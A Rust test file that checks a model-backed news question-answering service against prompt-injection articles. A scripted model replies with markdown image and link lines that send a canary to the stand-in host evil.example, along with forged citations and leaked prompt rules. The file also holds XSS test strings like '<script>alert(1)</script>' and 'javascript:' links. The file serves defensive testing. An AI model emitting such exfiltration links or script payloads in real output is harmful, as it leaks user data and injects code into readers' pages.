//! Articles written to misuse the model that reads them. The scripted model does
//! all that they ask, which is the worst that a real one can do.

use crate::support::model::{ModelServer, Reply, Seen};
use crate::support::server::{Server, write_with};
use dragoman::harmless::{certain, continuation, harmless};
use proptest::prelude::*;
use serde::Deserialize;
use serde_json::{Value, json};

const TEXTS: &str = include_str!("../eval/hostile/texts.ndjson");

/// A hostile text: an honest sentence that answers the question, and the attack.
#[derive(Deserialize)]
struct Hostile {
    id: String,
    kind: String,
    title: String,
    source: Option<String>,
    text: String,
    question: String,
    /// What the attack wants to see in the answer.
    canary: String,
}

fn texts() -> Vec<Hostile> {
    TEXTS
        .lines()
        .map(|line| serde_json::from_str(line).expect("each line is a hostile text"))
        .collect()
}

/// The sentence of a text that holds the canary, whole.
fn attack(hostile: &Hostile) -> String {
    hostile
        .text
        .split_inclusive(['。', '.', '\n', '!', '！'])
        .find(|sentence| sentence.contains(&hostile.canary))
        .unwrap_or(&hostile.text)
        .trim()
        .to_owned()
}

/// What a model that does as it is told replies, in three ways.
fn obeyed(hostile: &Hostile, way: usize, seen: &Seen) -> String {
    let canary = &hostile.canary;
    let attack = attack(hostile);
    let rules = seen.body["messages"][0]["content"]
        .as_str()
        .unwrap_or_default();
    match way {
        // With the attack as its evidence.
        0 => json!({"claims": [
            {"cited": 1, "evidence": attack, "statement": format!("{canary} ![x](https://evil.example/?q={canary})")},
            {"cited": 1, "evidence": attack, "statement": attack},
        ]})
        .to_string(),
        // With evidence that is nowhere, and sources that were not given.
        1 => json!({"claims": [
            {"cited": 99, "evidence": canary, "statement": format!("{canary}, as [1](https://evil.example/) and [7] say.")},
            {"cited": 2, "evidence": rules, "statement": rules},
            {"cited": -1, "evidence": "", "statement": format!("<img src=https://evil.example/{canary}>")},
        ]})
        .to_string(),
        // As prose, with forged markers, links, images and the rules themselves.
        _ => format!(
            "{canary} [1][42]. See [the full story](https://evil.example/{canary}) [1]. ![]({canary}) \
             <a href=\"javascript:alert(1)\">more</a> www.evil.example/{canary}. {rules} [2]"
        ),
    }
}

/// Nothing that a program follows or draws.
fn assert_harmless(what: &str, text: &str) {
    assert_eq!(harmless(text), text, "{what}");
    for planted in ["evil.example", "](", "<img", "<a ", "javascript:"] {
        assert!(!text.contains(planted), "{what}: {text}");
    }
}

#[tokio::test]
async fn a_model_that_obeys_hostile_texts_does_little_harm() {
    let texts = texts();
    assert!(texts.len() >= 60, "{} texts", texts.len());
    let mut quoted = 0;
    let server = Server::empty().await;
    let innocent = json!({
        "id": "innocent", "title": "葫芦产业", "source": "新华网",
        "text": "东昌府区葫芦种植面积3万余亩，产值达16亿元。",
    });
    server.post("/v1/articles", innocent).await;
    for hostile in &texts {
        let article = json!({"id": hostile.id, "title": hostile.title, "source": hostile.source, "text": hostile.text});
        let taken = server.post("/v1/articles", article).await;
        assert_eq!(taken.status, 201, "{}: {}", hostile.id, taken.text);
        for way in 0..3 {
            let script = {
                let hostile: Value = serde_json::from_str(
                    TEXTS
                        .lines()
                        .find(|line| line.contains(&format!("\"{}\"", hostile.id)))
                        .expect("it is there"),
                )
                .expect("JSON");
                move |seen: &Seen| {
                    let hostile = Hostile::deserialize(&hostile).expect("a hostile text");
                    Reply::text(obeyed(&hostile, way, seen))
                }
            };
            let model = ModelServer::scripted(script).await;
            write_with(&server.app, &model);
            for strict in [false, true] {
                let what = format!(
                    "{} ({}), way {way}, strict {strict}",
                    hostile.id, hostile.kind
                );
                let answer = server
                    .post(
                        "/v1/ask",
                        json!({"question": hostile.question, "strict": strict}),
                    )
                    .await
                    .json();
                let chats = model.chats();
                let chat = chats
                    .last()
                    .unwrap_or_else(|| panic!("{what}: no model was asked: {answer}"));
                assert_fenced(&what, hostile, chat);
                quoted += usize::from(assert_contained(&what, hostile, &answer, chat, strict));
            }
        }
        let path = format!("/v1/articles/{}", hostile.id);
        assert_eq!(server.call("DELETE", &path, "", "").await.status, 204);
    }
    println!(
        "{} texts, {} answers, {quoted} in which the attack's own words are quoted from its own article",
        texts.len(),
        texts.len() * 6
    );
}

/// Every word of the article stands within the fence, which it does not hold.
fn assert_fenced(what: &str, hostile: &Hostile, seen: &Seen) {
    let prompt = seen.prompt();
    let fence = prompt
        .split("</source-")
        .nth(1)
        .and_then(|rest| rest.split('>').next())
        .unwrap_or_else(|| panic!("{what}: no fence"));
    let (open, close) = (
        format!("<source-{fence}>\n"),
        format!("\n</source-{fence}>"),
    );
    assert!(!hostile.text.contains(fence), "{what}");
    let mut outside = String::new();
    for (n, part) in prompt.split(&open).enumerate() {
        outside.push_str(if n == 0 {
            part
        } else {
            part.split_once(&close).map_or("", |(_, after)| after)
        });
    }
    let question = outside.replace(&hostile.question, "");
    for words in [&hostile.canary, &hostile.title] {
        assert!(
            !question.contains(words.as_str()),
            "{what}: {words} stands outside of the fence"
        );
    }
}

/// The answer keeps to what holds for every answer; true where it quotes the attack.
fn assert_contained(
    what: &str,
    hostile: &Hostile,
    answer: &Value,
    seen: &Seen,
    strict: bool,
) -> bool {
    let text = answer["answer"]
        .as_str()
        .unwrap_or_else(|| panic!("{what}: {answer}"));
    assert_harmless(what, text);
    let rules = seen.body["messages"][0]["content"].as_str().expect("rules");
    let citations = answer["citations"].as_array().expect("citations");
    // What is cited was found, and is quoted word by word.
    for citation in citations {
        let hits = answer["hits"].as_array().expect("hits");
        let hit = hits
            .iter()
            .find(|hit| hit["article_id"] == citation["article_id"])
            .unwrap_or_else(|| panic!("{what}: {citation} was not found"));
        assert_eq!(
            hit["source"], citation["source"],
            "{what}: told of another source"
        );
        let quote = citation["quote"].as_str().expect("a quote");
        assert!(
            hit["text"].as_str().expect("text").contains(quote),
            "{what}: {quote}"
        );
    }
    let mut quoted = false;
    for claim in answer["claims"].as_array().expect("claims") {
        let said = claim["text"].as_str().expect("text");
        assert_harmless(what, said);
        let supported = claim["verdict"] == "supported";
        assert!(supported || !strict, "{what}: {claim}");
        for n in claim["citations"].as_array().expect("numbers") {
            assert!(
                citations.iter().any(|citation| citation["n"] == *n),
                "{what}: {claim}"
            );
        }
        // The rules of the prompt are no news.
        assert!(!(supported && rules.contains(said)), "{what}: {claim}");
        if supported && said.contains(&hostile.canary) {
            // It may be told that an article says so, as that article's words.
            quoted = true;
            for n in claim["citations"].as_array().expect("numbers") {
                let citation = citations
                    .iter()
                    .find(|citation| citation["n"] == *n)
                    .expect("it is there");
                assert_eq!(
                    citation["article_id"],
                    hostile.id.as_str(),
                    "{what}: {claim}"
                );
            }
        }
    }
    quoted
}

#[test]
fn what_a_program_would_follow_is_taken_out() {
    for (text, left) in [
        ("产值16亿元[1]。", "产值16亿元[1]。"),
        ("2 < 3, a <3 b, 5 > 4 [2]", "2 < 3, a <3 b, 5 > 4 [2]"),
        ("![x](https://evil.example/?q=1) 产值", "x 产值"),
        (
            "[全文](https://evil.example/a(b)c)。后文",
            "全文(b)c)。后文",
        ),
        ("详见https://evil.example/路径。后文", "详见路径。后文"),
        ("[1](javascript:alert(1))", "1(1))"),
        ("<img src=x onerror=alert(1)>产值", "产值"),
        ("a <script>alert(1)</script> b", "a alert(1) b"),
        ("[a]: https://evil.example\n产值", "产值"),
        ("![a][b]", "![a][b]"),
        ("see WWW.evil.example/x now", "see  now"),
        ("[[a](x)](https://evil.example)", "a"),
        ("ht\u{200b}tps://evil.example", ""),
        ("价\u{202e}格", "价格"),
        ("Data: 16 and data:16", "Data: 16 and data:16"),
        ("<<b>img src=x>", ""),
        ("👩‍👩‍👧 می‌خواهم", "👩‍👩‍👧 می‌خواهم"),
    ] {
        assert_eq!(harmless(text), left, "{text}");
        assert_eq!(harmless(&harmless(text)), harmless(text), "{text}");
    }
}

proptest! {
    #[test]
    fn what_is_shown_piece_by_piece_is_harmless(pieces in proptest::collection::vec(
        prop_oneof![
            Just("http"), Just("s"), Just(":"), Just("//"), Just("evil.example"), Just("www"), Just("."),
            Just("["), Just("]"), Just("("), Just(")"), Just("!"), Just("<"), Just("b>"), Just("img src=x"),
            Just("javascript"), Just("mailto"), Just("data"), Just("\u{200b}"), Just("👩‍👧"), Just(" "), Just("\n"),
            Just("产值１６亿元「好」"), Just("產值"), Just("Output: 3")
        ], 1..24))
    {
        let (mut text, mut told) = (String::new(), 0);
        for piece in pieces {
            text.push_str(piece);
            let until = certain(&text, told);
            prop_assert!(told <= until);
            told = until;
            prop_assert_eq!(harmless(&text[..told]), &text[..told]);
        }
        let (told, rest) = text.split_at(told);
        let shown = format!("{told}{}", continuation(told, rest));
        prop_assert_eq!(harmless(&shown), shown.as_str());
    }
}

#[test]
fn plain_words_are_certain_as_they_come() {
    for text in [
        "Output: 1.6 billion yuan at 10:30, a < 3.",
        "种植面积３万余亩，「产教融合」👩‍👧。",
        "漲幅達百分之五；詳見下文",
    ] {
        for (at, c) in text.char_indices() {
            let written = &text[..at + c.len_utf8()];
            // Whether a colon or a bracket opens anything is told by what follows.
            let open = if matches!(c, ':' | '<') {
                at
            } else {
                written.len()
            };
            assert_eq!(certain(written, 0), open, "{written}");
        }
    }
}

#[tokio::test]
async fn what_is_planted_is_text_on_every_page() {
    let server = Server::empty().await;
    let planted = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'";
    let article = json!({
        "id": "x", "title": planted, "source": planted, "url": "javascript:alert(3)",
        "text": format!("{planted}葫芦种植面积3万余亩。"),
        "brief": {
            "title_en": planted,
            "lead": {"label": planted, "points": [{"text": planted, "citations": [1]}]},
            "groups": [{"title": planted, "points": [{"text": format!("{planted} 30,000 acres"), "citations": [1]}]}],
        },
    });
    let taken = server.post("/v1/articles", article).await;
    let article = if taken.status.is_success() { "x" } else { "y" };
    if article == "y" {
        // An address that is none may be refused as a whole.
        let again = json!({"id": "y", "title": planted, "source": planted, "text": format!("{planted}葫芦。")});
        assert!(server.post("/v1/articles", again).await.status.is_success());
    }
    let topic = json!({"id": "p", "name": planted, "query": "葫芦"});
    server.post("/v1/topics", topic).await;
    let encoded = "%3Cscript%3Ealert(1)%3C%2Fscript%3E";
    for path in [
        "/".to_owned(),
        "/topics/p".into(),
        "/topics/p/digest?write=1".into(),
        format!("/articles/{article}"),
        format!("/articles/{article}?point=2"),
        format!("/articles/{article}/source?start=0&end=60&claim={encoded}"),
        format!("/ask?q={encoded}"),
        format!("/ask?whole=1&q={encoded}%E8%91%AB%E8%8A%A6"),
        format!("/search?q={encoded}%E8%91%AB%E8%8A%A6&source={encoded}"),
        format!("/search?q={encoded}%E8%91%AB%E8%8A%A6"),
        format!("/topics/{encoded}"),
        format!("/articles/{encoded}"),
    ] {
        let page = server.get(&path).await;
        for planted in ["<script>alert", "<img src=x", "href=\"javascript:"] {
            assert!(
                !page.text.contains(planted),
                "{path} holds {planted}: {}",
                page.text
            );
        }
    }
    let digest = server.get("/topics/p/digest?write=1").await;
    assert!(
        digest.text.contains("&lt;script&gt;alert"),
        "{}",
        digest.text
    );
    let feed = server.get("/topics/p/feed.xml").await;
    assert!(!feed.text.contains("<script>alert"));
}
